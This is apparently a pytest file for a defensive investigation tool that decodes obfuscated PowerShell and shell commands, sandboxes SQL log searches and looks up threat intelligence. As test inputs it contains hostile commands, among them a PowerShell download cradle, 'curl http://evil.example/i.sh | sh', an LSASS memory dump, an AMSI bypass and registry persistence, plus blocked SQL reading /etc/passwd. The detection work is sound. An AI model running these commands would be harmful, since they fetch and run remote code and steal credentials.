"""decode_script, search_logs and the look-ups."""

from __future__ import annotations

import base64
import gzip
import zlib
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.errors import ToolRefused
from tools.investigate import (
    decode_script,
    lookup_asset,
    lookup_identity,
    lookup_indicator,
    lookup_technique,
    lookup_vulnerability,
    similar_cases,
)
from tools.limits import Limits
from tools.sandbox.sandbox import Sandbox

CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')"


def encoded(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def decode(text: str) -> dict[str, Any]:
    return decode_script.run({"text": text}, {})


def test_encoded_command_is_decoded_and_named() -> None:
    result = decode(f"powershell.exe -NoP -w hidden -ep bypass -enc {encoded(CRADLE)}")
    facts = result["facts"]
    found = {name for name, value in facts.items() if value is True}
    assert found == {"encoded_command", "download_cradle", "hidden_window", "policy_bypass"}
    assert result["detail"]["decoded"][0]["text"] == CRADLE
    assert result["detail"]["urls"] == ["http://198.51.100.9/a.ps1"]


def test_layer_inside_a_layer_is_reached() -> None:
    inner = base64.b64encode(gzip.compress(CRADLE.encode())).decode()
    middle = f"$d=[Convert]::FromBase64String('{inner}')"
    result = decode(f"powershell -e {encoded(middle)}")
    assert result["facts"]["layers"] == 2
    assert result["facts"]["obfuscated"]
    assert result["detail"]["decoded"][1] == {"how": "base64 and gzip", "text": CRADLE}


@pytest.mark.parametrize("wbits", [15, -15])
def test_zlib_and_raw_deflate_are_unpacked(wbits: int) -> None:
    packer = zlib.compressobj(wbits=wbits)
    packed = packer.compress(CRADLE.encode()) + packer.flush()
    assert decode(f"x '{base64.b64encode(packed).decode()}'")["facts"]["download_cradle"]


@pytest.mark.parametrize(
    "text",
    [
        "('Down'+'load'+'String')('http://evil.example')",
        "D`ow`nl`oadSt`ri`ng",
        "(\"{1}{0}{2}\" -f 'load','Down','String')",
        "[char]68+[char]111+[char]119+[char]110+'loadString'",
        "('gnirtSdaolnwoD'[-1..-14] -join '')",
    ],
)
def test_words_broken_apart_are_put_together(text: str) -> None:
    facts = decode(text)["facts"]
    assert facts["download_cradle"], text
    assert facts["obfuscated"], text


def test_carets_of_the_windows_shell_are_removed() -> None:
    assert decode("c^m^d /c sch^ta^sks /cre^ate /tn x")["facts"]["persistence"]


@pytest.mark.parametrize(
    ("text", "fact"),
    [
        ("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", "amsi_bypass"),
        ("rundll32 comsvcs.dll, MiniDump 624 c:\\lsass.dmp full", "credential_access"),
        ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x", "persistence"),
        ("certutil -urlcache -f http://evil.example/a a.exe", "download_cradle"),
        ("curl http://evil.example/i.sh | sh", "download_cradle"),
    ],
)
def test_what_a_command_is_about_to_do(text: str, fact: str) -> None:
    assert decode(text)["facts"][fact] is True


@pytest.mark.parametrize(
    "text",
    ["Get-ChildItem C:\\Reports | Measure-Object", "ipconfig /all", "git commit -m 'x'", "C:\\Program Files\\a.exe"],
)
def test_ordinary_commands_show_no_bad_sign(text: str) -> None:
    assert decode(text)["facts"]["suspicious"] == 0


def test_bomb_stays_small() -> None:
    bomb = base64.b64encode(gzip.compress(b"A" * 50_000_000)).decode()
    result = decode(f"x '{bomb}'")
    assert all(len(layer["text"]) < 5000 for layer in result["detail"]["decoded"])


@given(st.text(max_size=500))
def test_any_text_gives_every_fact(text: str) -> None:
    assert set(decode(text)["facts"]) == set(decode_script.Facts.model_fields)


EVENTS = [
    {"user": "anna", "ok": True, "n": 3, "geo": {"country": "DE", "tags": ["a", {"deep": "x"}]}},
    {"user": "bob", "ok": False, "n": 2.5, "extra": None, "User": "shouting"},
]


async def search(sandbox: Sandbox, sql: str, fields: dict[str, Any] | None = None) -> dict[str, Any]:
    ticket = {"title": "t", "body": "", "reporter": None, "fields": {"events": EVENTS} if fields is None else fields}
    return await sandbox.run(
        "tools.investigate.search_logs:run", {"arguments": {"sql": sql}, "inputs": {"ticket": ticket}}
    )


async def test_one_row_becomes_facts(sandbox: Sandbox) -> None:
    result = await search(sandbox, "SELECT count(*) AS failed, max(n) AS most FROM events WHERE NOT ok")
    assert result["facts"] == {"rows": 1, "truncated": False, "failed": 1, "most": 2.5}


async def test_flat_table_reaches_any_shape(sandbox: Sandbox) -> None:
    result = await search(sandbox, "SELECT path, value FROM flat WHERE key = 'deep'")
    assert result["detail"]["rows"] == [{"path": "geo.tags[1].deep", "value": "x"}]


async def test_keys_that_differ_only_in_case_keep_their_values(sandbox: Sandbox) -> None:
    result = await search(sandbox, "SELECT * FROM events WHERE n = 2.5")
    assert (result["facts"]["user"], result["facts"]["User_2"]) == ("bob", "shouting")


async def test_fields_that_look_like_one_event_are_one(sandbox: Sandbox) -> None:
    result = await search(sandbox, "SELECT actor FROM events", {"actor": "x", "a": 1, "b": 2, "c": 3})
    assert result["facts"]["actor"] == "x"


async def test_many_rows_are_cut_and_say_so(sandbox: Sandbox) -> None:
    result = await search(sandbox, "SELECT * FROM range(500)")
    assert (result["facts"]["rows"], result["facts"]["truncated"]) == (50, True)


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT * FROM read_csv('/etc/passwd')",
        "SELECT * FROM read_text('/casemate/tools/__init__.py')",
        "SELECT * FROM glob('/*')",
        "ATTACH '/tmp/x.db' AS x",
        "INSTALL httpfs",
        "COPY events TO '/tmp/x'",
        "SET enable_external_access=true",
        "SELECT 1; SELECT 2",
        "DROP TABLE events",
        "PRAGMA database_list",
        "SELECT nonsense FROM nowhere",
        "not sql",
    ],
)
async def test_query_that_is_not_one_plain_select_is_refused(sandbox: Sandbox, sql: str) -> None:
    with pytest.raises(ToolRefused):
        await search(sandbox, sql)


async def test_ticket_without_events_is_told_so(sandbox: Sandbox) -> None:
    with pytest.raises(ToolRefused, match="no log events"):
        await search(sandbox, "SELECT 1", {})


async def test_endless_query_is_stopped(sandbox: Sandbox) -> None:
    sql = "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r"
    ticket = {"title": "t", "body": "", "reporter": None, "fields": {"events": EVENTS}}
    with pytest.raises(ToolRefused):
        await sandbox.run(
            "tools.investigate.search_logs:run",
            {"arguments": {"sql": sql}, "inputs": {"ticket": ticket}},
            Limits(cpu_seconds=2, seconds=10),
        )


@pytest.mark.parametrize(
    ("query", "id_"),
    [
        ("T1566.002", "T1566.002"),
        ("technique t1059.001 please", "T1059.001"),
        ("T1566.999", "T1566"),
        ("spearphishing attachment", "T1566.001"),
        ("password spraying", "T1110.003"),
        ("xyzzy", ""),
    ],
)
def test_techniques_are_found_by_id_and_by_words(query: str, id_: str) -> None:
    assert lookup_technique.run({"query": query}, {})["facts"]["id"] == id_


def test_unknown_values_are_never_repeated_as_if_we_knew_them() -> None:
    asked = "attacker-says-so"
    results = [
        lookup_indicator.run({"value": asked}, {"intel": []}),
        lookup_asset.run({"host": asked}, {"asset": None}),
        lookup_identity.run({"user": asked}, {"identity": None}),
        lookup_vulnerability.run({"cve": asked}, {"vulnerability": None}),
        similar_cases.run({}, {"history": []}),
    ]
    assert asked not in str(results)
    assert all(r["facts"].get("known", False) is False for r in results)


def test_the_worst_entry_of_an_indicator_counts() -> None:
    row = {"value": "x", "type": "ip", "source": "a", "confidence": 99, "malicious": False, "description": ""}
    worse = {**row, "source": "b", "confidence": 60, "malicious": True}
    facts = lookup_indicator.run({"value": "x"}, {"intel": [row, worse]})["facts"]
    assert facts == {"known": True, "malicious": True, "confidence": 60, "type": "ip", "source": "b", "entries": 2}


def test_unknown_host_counts_as_most_critical() -> None:
    assert lookup_asset.run({"host": "x"}, {"asset": None})["facts"]["tier"] == 0
